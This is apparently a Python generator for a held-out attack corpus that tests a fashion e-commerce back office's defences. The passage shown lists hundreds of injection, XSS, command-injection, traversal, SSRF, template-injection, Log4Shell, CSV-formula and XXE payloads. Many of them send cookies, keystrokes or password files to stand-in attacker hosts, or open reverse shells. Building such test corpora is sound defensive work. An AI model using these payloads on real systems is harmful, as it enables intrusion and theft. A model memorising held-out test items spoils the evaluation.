"""Attack corpus for the fashion e-commerce back office (held out, never tuned on).

Each literal is (class, value), hand-written for this corpus from an understanding of
how the technique works; templates combine small hand-written pools of fashion
field values with hand-written payload tails. Output: attacks.jsonl next to this file.
class = <context>-<technique>[+<encoding>]
"""
import json
import random
from pathlib import Path

SEED = 9402
PREFIX = "ha94"

LIT = {}

# --------------------------------------------------------------------- sqli
LIT["sqli"] = [
    ("sku-tautology", "TSH-RED-XL' OR '1'='1"),
    ("sku-tautology", "TSH-RED-XL' OR 1=1-- -"),
    ("sku-union", "TSH-RED-XL' UNION SELECT username, password_hash, NULL, NULL FROM admin_users-- -"),
    ("sku-union", "DRS-SGE-38' UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables#"),
    ("search-union", "red dress%' UNION SELECT email,card_last4,NULL FROM customers WHERE '%'='"),
    ("search-boolean", "linen shirt%' AND SUBSTRING((SELECT password FROM staff LIMIT 1),1,1)='a' AND '%'='"),
    ("search-time", "wrap dress%' AND SLEEP(6) AND '%'='"),
    ("search-time", "mom jeans'; SELECT pg_sleep(7);--"),
    ("search-time", "boots' WAITFOR DELAY '0:0:8'--"),
    ("filter-numeric-tautology", "38 OR 1=1"),
    ("filter-numeric-union", "38 UNION SELECT 1,concat(login,0x3a,pass),3,4 FROM backoffice_users"),
    ("filter-price-boolean", "100 AND (SELECT COUNT(*) FROM users WHERE role='admin')>0"),
    ("sort-orderby", "price,(CASE WHEN (SELECT substr(api_key,1,1) FROM integrations LIMIT 1)='s' THEN name ELSE sku END)"),
    ("sort-orderby-time", "created_at DESC, (SELECT 1 FROM (SELECT SLEEP(5))x)"),
    ("size-stacked", "EU 38'; DROP TABLE size_charts;--"),
    ("size-stacked", "UK 10'; UPDATE users SET role='admin' WHERE email='me@attacker.example';--"),
    ("colour-error", "Sage' AND extractvalue(1,concat(0x7e,(SELECT version())))-- "),
    ("colour-error", "Navy' AND updatexml(null,concat(0x3a,(SELECT user())),null)-- -"),
    ("colour-error", "Ivory' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
    ("colour-error", "Rust' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)--"),
    ("review-stacked", "Great fit, runs small!'); INSERT INTO coupons(code,pct) VALUES('FREE100',100);--"),
    ("review-second-order", "Anna O'Brien'||(SELECT password FROM users WHERE id=1)||'"),
    ("return-reason-union", "Too small' UNION SELECT iban, holder, NULL FROM supplier_bank--"),
    ("supplier-name-oob", "Textil SA'; EXEC master..xp_dirtree '\\\\oob.attacker.example\\x';--"),
    ("supplier-name-oob", "Nordic Knits' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.oob.attacker.example\\\\a'))-- "),
    ("po-number-stacked", "PO-2024-0387'; EXEC xp_cmdshell 'whoami';--"),
    ("po-number-boolean", "PO-2024-0387' AND ASCII(SUBSTRING(DB_NAME(),1,1))>100--"),
    ("ean-numeric-tautology", "4006381333931 OR 2>1"),
    ("sku-comment", "JNS-IND-W32L34'/**/OR/**/'a'='a"),
    ("sku-union+comment", "CAP-OS-NVY'/**/UNION/**/SELECT/**/1,@@version,3-- -"),
    ("sku-union+case", "BLT-BRN-90cm' uNiOn SeLeCt 1,group_concat(email),3 fRoM customers-- -"),
    ("search-tautology+urlenc", "dress%27%20OR%20%271%27%3D%271"),
    ("search-union+urlenc", "coat%27%20UNION%20SELECT%20null%2Cpassword%20FROM%20users--%20-"),
    ("search-time+dblurlenc", "tee%2527%2520AND%2520SLEEP%25285%2529--%2520-"),
    ("sku-boolean+hex", "SHT-BLU' AND (SELECT password FROM users WHERE login=0x61646d696e) LIKE 0x2425%-- -"),
    ("sku-char", "TSH' OR name=CHAR(97,100,109,105,110)--"),
    ("variant-json-sqli", "{\"sku\":\"TSH-RED-XL' OR '1'='1\",\"qty\":1}"),
    ("title-sqlite-union", "Wrap Dress' UNION SELECT sql,2,3 FROM sqlite_master--"),
    ("title-sqlite-boolean", "Linen Blazer' AND (SELECT hex(substr(tbl_name,1,1)) FROM sqlite_master LIMIT 1)='75'--"),
    ("care-label-oracle-union", "30°C' UNION SELECT username, password FROM dba_users--"),
    ("care-label-oracle-time", "Dry clean' AND 1=(SELECT CASE WHEN (1=1) THEN DBMS_PIPE.RECEIVE_MESSAGE('x',6) ELSE 1 END FROM dual)--"),
    ("composition-heavy-query", "cotton' AND (SELECT count(*) FROM generate_series(1,30000000))>0--"),
    ("tag-insert", "summer'),('x',(SELECT password FROM users LIMIT 1))-- -"),
    ("lookbook-slug-outfile", "aw24' UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/img/l.php'-- -"),
    ("coupon-code-tautology", "WELCOME10' OR 'x'='x"),
    ("coupon-code-like", "%' OR code LIKE '%"),
    ("email-login-bypass", "buyer@shop.example'-- "),
    ("username-login-bypass", "admin'/*"),
    ("username-login-bypass", "merchandiser' OR 1=1 LIMIT 1#"),
    ("size-having", "M' GROUP BY sku HAVING 1=1--"),
    ("limit-procedure", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("search-pg-copy", "scarf'; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.7/p|sh';--"),
    ("colour-boolean", "Black' AND 1=(SELECT 1 FROM users WHERE username='admin' AND password LIKE 'a%')-- -"),
    ("size-chart-json-path", "EU 38' AND JSON_EXTRACT((SELECT settings FROM shop LIMIT 1),'$.smtp_pass') LIKE 'p%'-- -"),
    ("review-mssql-stacked", "Love it!'; DECLARE @q varchar(99);SET @q='\\\\198.51.100.20\\s';EXEC master.dbo.xp_fileexist @q;--"),
    ("plain-tautology", "' OR '1'='1'-- "),
    ("plain-union", "' UNION SELECT NULL,NULL,NULL--"),
    ("plain-time", "1' AND SLEEP(5)#"),
    ("plain-stacked", "1; DROP TABLE orders--"),
    ("plain-boolean", "1 AND 1=2 UNION SELECT 1,2"),
    ("plain-error", "' AND 1=(SELECT 1/0 FROM dual WHERE 1=1)--"),
    ("search-tautology+fullwidth", "denim＇ OR ＇1＇=＇1"),
    ("plain-orderby", "1 ORDER BY 9-- -"),
    ("plain-comment-bypass", "admin'#"),
]

# --------------------------------------------------------------------- xss
LIT["xss"] = [
    ("review-script", "Runs small, size up! <script>fetch('//attacker.example/c?'+document.cookie)</script>"),
    ("review-img-onerror", "Love the colour <img src=x onerror=alert(document.domain)>"),
    ("review-svg-onload", "5/5 <svg onload=\"new Image().src='https://attacker.example/s?c='+document.cookie\">"),
    ("title-script", "Wrap Dress – Sage <script src=https://cdn.attacker.example/k.js></script>"),
    ("title-breakout", "Harbour Shirt</title><script>alert(1)</script>"),
    ("description-iframe", "Fully lined. <iframe src=\"javascript:alert(document.cookie)\"></iframe>"),
    ("description-details", "Care notes <details open ontoggle=alert(1)>wash cold</details>"),
    ("description-body", "<body onload=alert('stored')>Linen shirt</body>"),
    ("description-object", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("description-video", "<video><source onerror=\"location='//attacker.example/?'+document.cookie\"></video>"),
    ("caption-attr-breakout", "Look 07\" onmouseover=\"alert(1)\" x=\""),
    ("alt-text-attr-breakout", "Model wears S' onfocus='alert(document.cookie)' autofocus='"),
    ("colour-swatch-style", "#ff0000;background:url(javascript:alert(1))"),
    ("colour-swatch-attr", "red\" style=\"position:fixed;inset:0\" onmouseenter=\"alert(1)"),
    ("lookbook-link-href", "javascript:alert(document.domain)//https://lookbook.example"),
    ("lookbook-link-href+case", "JaVaScRiPt:alert(1)"),
    ("lookbook-link-href+htmlent", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("lookbook-link-href+tab", "java\tscript:alert(1)"),
    ("lookbook-link-data", "data:text/html,<script>alert(document.cookie)</script>"),
    ("variant-json-script-breakout", "TSH-RED-XL</script><script>alert(1)</script>"),
    ("variant-js-string-breakout", "Sage';alert(document.cookie);//"),
    ("variant-js-string-breakout", "Navy\\\";alert(1);//"),
    ("variant-js-template", "${alert(document.domain)}"),
    ("search-reflected", "\"><script>alert(1)</script>"),
    ("search-reflected", "red dress\"><img src=1 onerror=prompt(1)>"),
    ("search-reflected+urlenc", "%22%3E%3Csvg%2Fonload%3Dalert%281%29%3E"),
    ("search-reflected+dblurlenc", "%2522%253E%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    ("review-script+case", "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>"),
    ("review-img+htmlent", "&lt;img src=x onerror=alert(1)&gt;"),
    ("review-svg+unicode", "\\u003csvg onload=alert(1)\\u003e"),
    ("review-nested-filter-bypass", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("review-markdown-link", "Great fit! [see my photo](javascript:alert(document.cookie))"),
    ("review-markdown-image", "![fit pic](x\" onerror=\"alert(1))"),
    ("supplier-msg-style", "<style>@import 'https://attacker.example/x.css';</style>Hi team, PO attached"),
    ("supplier-msg-meta", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("supplier-msg-form", "Please confirm: <form action=https://attacker.example/p><input name=pw type=password><button>Login</button></form>"),
    ("supplier-msg-base", "<base href=\"https://attacker.example/\">Invoice attached"),
    ("return-reason-input-autofocus", "Too big <input autofocus onfocus=alert(1)>"),
    ("return-reason-marquee", "<marquee onstart=alert(1)>Wrong colour</marquee>"),
    ("size-chart-table", "<table background=\"javascript:alert(1)\"><tr><td>EU 38</td></tr></table>"),
    ("size-chart-math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    ("care-textarea-breakout", "Dry flat</textarea><script>alert(1)</script>"),
    ("care-noscript-breakout", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("angular-template", "{{constructor.constructor('alert(1)')()}}"),
    ("vue-template", "{{_c.constructor('alert(document.cookie)')()}}"),
    ("caption-svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("caption-svg-use", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>"),
    ("caption-audio", "Swim '25 🌊 <audio src=x onerror=alert(1)>"),
    ("caption-a-href", "<a href=\"javascript:void(fetch('//attacker.example/'+localStorage.token))\">Shop the look</a>"),
    ("title-innerhtml", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("description-svg-foreign", "<svg><foreignObject><iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe></foreignObject></svg>"),
    ("description-embed", "<embed src=\"javascript:alert(1)\">"),
    ("description-link-import", "<link rel=stylesheet href=//attacker.example/steal.css>"),
    ("sku-dom-hash", "#<img src=x onerror=alert(1)>"),
    ("review-event+newline", "<img src=x\nonerror=alert(1)>"),
    ("review-event+slash", "<svg/onload=alert`1`>"),
    ("review-keylogger", "<script>document.onkeypress=e=>fetch('//attacker.example/k?'+e.key)</script>"),
    ("title-script+utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("review-button-formaction", "<form><button formaction=javascript:alert(1)>Helpful?</button></form>"),
    ("review-body-pageshow", "<body onpageshow=alert(1)>"),
    ("plain-iframe", "<iframe src=javascript:alert(1)>"),
    ("plain-details", "<details open ontoggle=alert(1)>"),
    ("filename-upload-xss", "lookbook\"><img src=x onerror=alert(1)>.jpg"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img", "<img src=x onerror=alert(1)>"),
    ("plain-svg", "<svg onload=alert(1)>"),
    ("plain-attr", "\" autofocus onfocus=alert(1) \""),
    ("plain-href", "javascript:alert(1)"),
]

# --------------------------------------------------------------------- cmdi
LIT["cmdi"] = [
    ("image-filename-semicolon", "lookbook-07.jpg; curl -s http://203.0.113.5/x.sh | sh"),
    ("image-filename-subshell", "hero_$(id).png"),
    ("image-filename-backtick", "swatch-`uname -a`.jpg"),
    ("image-filename-pipe", "model.jpg | nc 198.51.100.3 4444 -e /bin/sh"),
    ("image-filename-and", "look12.webp && wget http://attacker.example/b -O /tmp/b && chmod +x /tmp/b && /tmp/b"),
    ("image-filename-or", "missing.png || cat /etc/passwd"),
    ("image-filename-newline", "look.jpg\nid > /var/www/html/static/o.txt"),
    ("resize-geometry", "800x600; rm -rf /var/www/media/cache"),
    ("resize-geometry", "1200x1200$(sleep 10)"),
    ("sku-barcode-label", "TSH-RED-XL; cat /etc/shadow"),
    ("sku-barcode-label", "TSH-RED-XL`sleep 9`"),
    ("sku-barcode-label", "JNS-IND-W32L34 $(curl http://attacker.example/$(whoami))"),
    ("sku-barcode-label+ifs", "TSH-RED-XL;cat${IFS}/etc/passwd"),
    ("sku-barcode-label+ifs", "SHT;{cat,/etc/hosts}"),
    ("export-filename", "products_2024.csv; bash -i >& /dev/tcp/203.0.113.9/443 0>&1"),
    ("export-filename", "stock.xlsx'; python3 -c 'import os;os.system(\"id\")' #"),
    ("export-filename", "orders\".csv; nslookup $(hostname).oob.attacker.example; echo \""),
    ("pdf-size-chart", "size-chart-EU.pdf; /bin/bash -c 'sh -i >& /dev/udp/198.51.100.44/53 0>&1'"),
    ("tech-pack-convert", "techpack_v4.ai\"; perl -e 'print `id`'; \""),
    ("tech-pack-convert", "techpack.pdf$(printf '\\x3bid')"),
    ("colour-name-shell", "Sage'$(id)'"),
    ("supplier-ftp-path", "/incoming/PO-0387 ; ping -c 10 127.0.0.1"),
    ("supplier-ftp-path", "/incoming/PO-0387 & ping -n 10 127.0.0.1 &"),
    ("supplier-ftp-path-win", "PO-0391.xlsx & type C:\\Windows\\win.ini"),
    ("supplier-ftp-path-win", "PO-0391.xlsx | powershell -nop -c \"iwr http://attacker.example/p.ps1|iex\""),
    ("supplier-ftp-path-win", "invoice.pdf && certutil -urlcache -f http://203.0.113.15/a.exe %TEMP%\\a.exe"),
    ("hangtag-print-queue", "HANGTAG-24 -o landscape; lp -d x /etc/passwd"),
    ("zip-archive-name", "lookbook_aw24.zip -T -TT 'sh -c id'"),
    ("git-style-arg-injection", "--upload-pack=touch /tmp/pwned"),
    ("curl-arg-injection", "-o /var/www/html/shell.php http://attacker.example/s.txt"),
    ("tar-arg-injection", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("find-arg-injection", "sage -exec sh -c 'id' ;"),
    ("ffmpeg-video-name", "runway.mp4; wget -qO- 198.51.100.12/m | bash"),
    ("imagemagick-delegate", "https://cdn.example/look.jpg\"|ls \"-la"),
    ("imagemagick-mvg", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/x.jpg\"|curl http://attacker.example/m|sh\")'\npop graphic-context"),
    ("ghostscript-eps", "%!PS\nuserdict /setpagedevice undef\nlegal\n{ null restore } stopped { pop } if\nmark /OutputFile (%pipe%id > /tmp/gs) currentdevice putdeviceprops"),
    ("font-name", "Helvetica Neue'; touch /tmp/fnt; echo '"),
    ("watermark-text", "© Maison 2024\" ; curl -d @/etc/passwd http://attacker.example/u ; \""),
    ("sku-cmdi+var-concat", "TSH;c''at /e't'c/pa''sswd"),
    ("sku-cmdi+backslash", "TSH;c\\at /et\\c/pas\\swd"),
    ("sku-cmdi+glob", "TSH;/???/c?t /???/p??s??"),
    ("sku-cmdi+base64", "TSH;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh"),
    ("sku-cmdi+hex", "TSH;$(printf '\\x63\\x61\\x74\\x20\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64')"),
    ("sku-cmdi+urlenc", "TSH-RED-XL%3B%20id"),
    ("image-filename+dblurlenc", "look.jpg%253Bcurl%2520attacker.example%252Fs%257Csh"),
    ("image-filename+newline-urlenc", "look.jpg%0Awget%20http://203.0.113.3/x"),
    ("shipping-label-env", "DHL-1234567890;env > /tmp/e; curl -T /tmp/e http://attacker.example/"),
    ("carrier-tracking", "1Z999AA10123456784 $(cat /proc/self/environ | base64 -w0 | curl -d @- attacker.example)"),
    ("thumbnail-size", "150;sleep${IFS}12"),
    ("colour-hex-convert", "#ffcc00'; nc -e /bin/bash 198.51.100.8 9001; '"),
    ("sitemap-domain", "shop.example; crontab -l | { cat; echo '* * * * * curl attacker.example/c|sh'; } | crontab -"),
    ("backup-name", "backup-$(date).tgz; rm -f /var/log/nginx/access.log"),
    ("mail-recipient-sendmail", "buyer@shop.example -X/var/www/html/log.php"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| whoami"),
    ("plain-subshell", "$(cat /etc/passwd)"),
    ("plain-backtick", "`id`"),
    ("plain-and", "&& uname -a"),
    ("plain-win", "& dir C:\\"),
    ("plain-newline", "\nid"),
    ("plain-sleep", "; sleep 10 #"),
]

# --------------------------------------------------------------------- traversal
LIT["traversal"] = [
    ("lookbook-image-dotdot", "../../../../etc/passwd"),
    ("lookbook-image-dotdot", "aw24/look-07/../../../../../etc/shadow"),
    ("lookbook-image-dotdot", "img/campaign/../../../../proc/self/environ"),
    ("size-chart-pdf", "../../../app/config/settings.py"),
    ("size-chart-pdf", "charts/eu/../../../../../var/www/.env"),
    ("tech-pack-download", "techpacks/PO-0387/../../../../root/.ssh/id_rsa"),
    ("tech-pack-download", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("tech-pack-download+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts"),
    ("tech-pack-download+dblurlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("tech-pack-download+overlong", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("tech-pack-download+overlong", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("tech-pack-download+unicode", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("care-label-artwork", "..\\..\\..\\windows\\win.ini"),
    ("care-label-artwork", "labels\\..\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("care-label-artwork+urlenc", "..%5c..%5c..%5cboot.ini"),
    ("swatch-image-absolute", "/etc/passwd"),
    ("swatch-image-absolute", "/proc/self/cmdline"),
    ("swatch-image-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("swatch-image-file-uri", "file:///etc/passwd"),
    ("template-name", "../../../../../../usr/local/lib/python3.11/site-packages/app/secrets.py"),
    ("template-name", "emails/../../.git/config"),
    ("locale-file", "fr_FR/../../../../../etc/passwd%00.json"),
    ("locale-file", "../../../../etc/passwd\u0000.po"),
    ("export-path", "/var/www/media/exports/../../../../etc/cron.d/backdoor"),
    ("export-path", "....//....//....//etc/passwd"),
    ("export-path", "..././..././..././etc/group"),
    ("export-path", ".../.../.../etc/passwd"),
    ("zip-entry-slip", "../../../../var/www/html/static/shell.php"),
    ("zip-entry-slip", "lookbook/../../../../../../home/app/.bashrc"),
    ("sku-image-path", "TSH-RED-XL/../../../../etc/passwd"),
    ("sku-image-path+semicolon", "TSH-RED-XL.jpg/..;/..;/admin/config"),
    ("invoice-pdf", "INV-88213.pdf/../../../../../../var/log/nginx/access.log"),
    ("invoice-pdf", "../../../../../proc/self/fd/3"),
    ("logo-upload-name", "../../static/js/app.js"),
    ("logo-upload-name", "..%2F..%2Fstatic%2Fjs%2Fapp.js"),
    ("theme-css", "css/../../../../../../../etc/nginx/nginx.conf"),
    ("font-file", "fonts/..%252f..%252f..%252f..%252fetc%252fpasswd"),
    ("catalog-feed-path", "feeds/google/..\\..\\..\\..\\..\\Users\\Administrator\\NTUSER.DAT"),
    ("catalog-feed-path", "\\\\?\\C:\\Windows\\win.ini"),
    ("report-template", "/../../../../etc/passwd"),
    ("report-template+case", "..%2F..%2f..%2F..%2fEtC/PaSsWd"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-dotdot-win", "..\\..\\..\\windows\\system.ini"),
    ("plain-urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-dblurlenc", "..%252f..%252f..%252fetc%252fpasswd"),
    ("plain-nested-dots", "....//....//etc/hosts"),
]

# --------------------------------------------------------------------- ssrf
LIT["ssrf"] = [
    ("image-import-url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("image-import-url", "http://169.254.169.254/latest/user-data"),
    ("image-import-url", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("image-import-url", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("image-import-url", "http://100.100.100.200/latest/meta-data/"),
    ("image-import-url", "http://localhost:8080/admin/users"),
    ("image-import-url", "http://127.0.0.1:6379/"),
    ("image-import-url", "http://127.0.0.1:9200/_cat/indices"),
    ("image-import-url", "http://[::1]:5000/internal/export"),
    ("image-import-url", "http://0.0.0.0:8000/debug"),
    ("image-import-url+ipalt", "http://2130706433/admin"),
    ("image-import-url+ipalt", "http://0x7f000001:8080/"),
    ("image-import-url+ipalt", "http://0177.0.0.1/server-status"),
    ("image-import-url+ipalt", "http://127.1/"),
    ("image-import-url+ipalt", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("image-import-url+ipalt", "http://0xa9fea9fe/latest/meta-data/"),
    ("image-import-url+ipalt", "http://2852039166/latest/meta-data/"),
    ("image-import-url+ipalt", "http://169.254.43518/latest/meta-data/"),
    ("supplier-feed-url", "http://cdn.supplier.example@127.0.0.1:8081/"),
    ("supplier-feed-url", "http://127.0.0.1#@cdn.supplier.example/feed.xml"),
    ("supplier-feed-url", "http://feeds.supplier.example.127.0.0.1.nip.io/stock.csv"),
    ("supplier-feed-url", "https://redirect.attacker.example/to?u=http://169.254.169.254/latest/meta-data/"),
    ("supplier-feed-url", "http://rebind.attacker.example/feed.csv"),
    ("supplier-feed-scheme", "gopher://127.0.0.1:6379/_SET%20x%20%22pwn%22%0D%0ACONFIG%20SET%20dir%20/tmp%0D%0ASAVE%0D%0A"),
    ("supplier-feed-scheme", "dict://127.0.0.1:11211/stats"),
    ("supplier-feed-scheme", "file:///var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("supplier-feed-scheme", "ftp://198.51.100.4:21/../../etc/passwd"),
    ("supplier-feed-scheme", "ldap://127.0.0.1:389/dc=shop,dc=example"),
    ("supplier-feed-scheme", "jar:http://attacker.example/x.zip!/feed.xml"),
    ("supplier-feed-scheme", "netdoc:///etc/hosts"),
    ("webhook-url", "http://internal-api.svc.cluster.local/v1/orders?all=true"),
    ("webhook-url", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("webhook-url", "http://10.0.0.12:2375/containers/json"),
    ("webhook-url", "http://192.168.1.1/cgi-bin/config.exp"),
    ("webhook-url", "http://172.17.0.1:8500/v1/kv/?recurse"),
    ("webhook-url+case", "HtTp://LoCaLhOsT:8000/admin"),
    ("webhook-url+urlenc", "http://%31%32%37%2e%30%2e%30%2e%31/admin"),
    ("webhook-url+unicode", "http://①②⑦.⓪.⓪.①/admin"),
    ("lookbook-embed-url", "http://localtest.me:8080/internal"),
    ("lookbook-embed-url", "https://attacker.example:443\\@cdn.shop.example/"),
    ("lookbook-embed-url", "http://cdn.shop.example&@169.254.169.254# @cdn.shop.example/"),
    ("sitemap-ping", "http://127.0.0.1:22/"),
    ("pdf-render-html", "<iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=900></iframe>"),
    ("pdf-render-html", "<link rel=attachment href=\"file:///etc/passwd\">"),
    ("svg-upload-image", "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"http://169.254.169.254/latest/meta-data/\"/></svg>"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/"),
    ("plain-file", "file:///c:/windows/win.ini"),
    ("plain-loopback-ipalt", "http://0x7f.1/"),
    ("plain-gopher", "gopher://127.0.0.1:25/_HELO%20x"),
]

# --------------------------------------------------------------------- code
LIT["code"] = [
    ("description-ssti-jinja", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("description-ssti-jinja", "Soft linen {{ self.__init__.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("description-ssti-jinja", "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("description-ssti-jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("description-ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("description-ssti-jinja", "{{ config.items() }}"),
    ("description-ssti-jinja+attr", "{{ lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')() }}"),
    ("description-ssti-jinja+hex", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}"),
    ("email-template-ssti-twig", "{{ ['id']|filter('system') }}"),
    ("email-template-ssti-twig", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("email-template-ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("email-template-ssti-velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("email-template-ssti-erb", "<%= `id` %>"),
    ("email-template-ssti-erb", "Dear <%= File.read('/etc/passwd') %>,"),
    ("email-template-ssti-mako", "${ __import__('os').popen('id').read() }"),
    ("email-template-ssti-smarty", "{system('cat /etc/passwd')}"),
    ("email-template-ssti-handlebars", "{{#with \"s\" as |string|}}{{#with (string.sub.apply 0 \"constructor\")}}{{this}}{{/with}}{{/with}}"),
    ("email-template-ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("email-template-ssti-tornado", "{% import os %}{{ os.popen('whoami').read() }}"),
    ("title-spel", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("title-spel", "#{T(java.lang.System).getenv()}"),
    ("title-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("title-el", "${pageContext.request.getSession().setAttribute('role','admin')}"),
    ("title-mvel", "Runtime.getRuntime().exec('touch /tmp/mvel')"),
    ("review-log4shell", "Great coat ${jndi:ldap://attacker.example:1389/a}"),
    ("review-log4shell", "${jndi:rmi://198.51.100.9:1099/Exploit}"),
    ("review-log4shell", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example}"),
    ("review-log4shell+nested", "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}dap://attacker.example/x}"),
    ("review-log4shell+nested", "${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.20/o}"),
    ("review-log4shell+nested", "${j${env:NOPE:-n}di:ldaps://attacker.example/z}"),
    ("user-agent-log4shell", "Mozilla/5.0 ${jndi:ldap://${sys:java.version}.oob.attacker.example/a}"),
    ("search-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fq%7D"),
    ("variant-json-proto", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("variant-json-proto", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("variant-json-proto", "{\"sku\":\"TSH-RED-XL\",\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}"),
    ("filter-query-proto", "filter[__proto__][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("filter-query-proto", "colour[constructor][prototype][polluted]=1"),
    ("filter-query-proto+unicode", "{\"\\u005f\\u005fproto\\u005f\\u005f\":{\"admin\":1}}"),
    ("csv-export-formula", "=cmd|' /C calc'!A0"),
    ("csv-export-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Size guide\")"),
    ("csv-export-formula", "+SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-export-formula", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csv-export-formula", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("csv-export-formula", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A1:C9),\"//a\")"),
    ("csv-export-formula", "\t=DDE(\"cmd\";\"/C calc\";\"x\")"),
    ("csv-export-formula", "Wrap Dress\",\"=WEBSERVICE(\"\"https://attacker.example/\"\"&A1)"),
    ("supplier-xml-xxe", "<?xml version=\"1.0\"?><!DOCTYPE po [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><po><sku>&x;</sku></po>"),
    ("supplier-xml-xxe", "<?xml version=\"1.0\"?><!DOCTYPE feed [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><feed/>"),
    ("supplier-xml-xxe", "<!DOCTYPE r [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><r>&s;</r>"),
    ("supplier-xml-xxe", "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><l>&d;</l>"),
    ("supplier-xml-xinclude", "<stock xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></stock>"),
    ("svg-upload-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY f SYSTEM \"file:///app/.env\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&f;</text></svg>"),
